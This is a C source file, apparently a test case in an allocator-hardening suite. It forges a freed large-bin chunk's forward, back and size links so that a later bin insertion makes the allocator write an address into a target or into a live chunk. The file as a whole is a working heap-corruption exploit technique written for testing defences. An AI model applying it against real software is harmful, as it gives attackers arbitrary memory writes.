/* large_bin.c - a binned chunk's links are forged so that the *next* chunk that is put
 * into the same bin makes the allocator write its address where they lead. */
#include "attack.h"

static void forge(void *c, size_t at)
{
    for (ptrdiff_t link = 0; link < 4; link++) /* fd, bk; glibc's sizes chain too */
        poke(c, link * WORD, at);
}

static void insert(size_t at, void (*unchanged)(void))
{
    void *a = take(BINNED + 16);
    wall();
    void *b = take(BINNED);
    wall();
    give(a);
    forge(a, at);
    give(b);
    unchanged();
    go_on(BINNED, 10);
    unchanged();
    go_on(2 * BINNED, 2);
    unchanged();
}

static void into_prey(void)
{
    prey_is_set();
    insert(prey_at(16), prey_must_be_unchanged);
}

static char *home;

static void home_must_be_unchanged(void)
{
    for (ptrdiff_t i = 0; i < BINNED / WORD; i++)
        if (peek(home, i * WORD) != 0)
            won("the allocator wrote into a live chunk");
}

static void into_heap(void)
{
    home = take(BINNED);
    wall();
    memset(home, 0, BINNED);
    insert((size_t)home + 64, home_must_be_unchanged);
}

ATTACK(into_prey, into_heap)
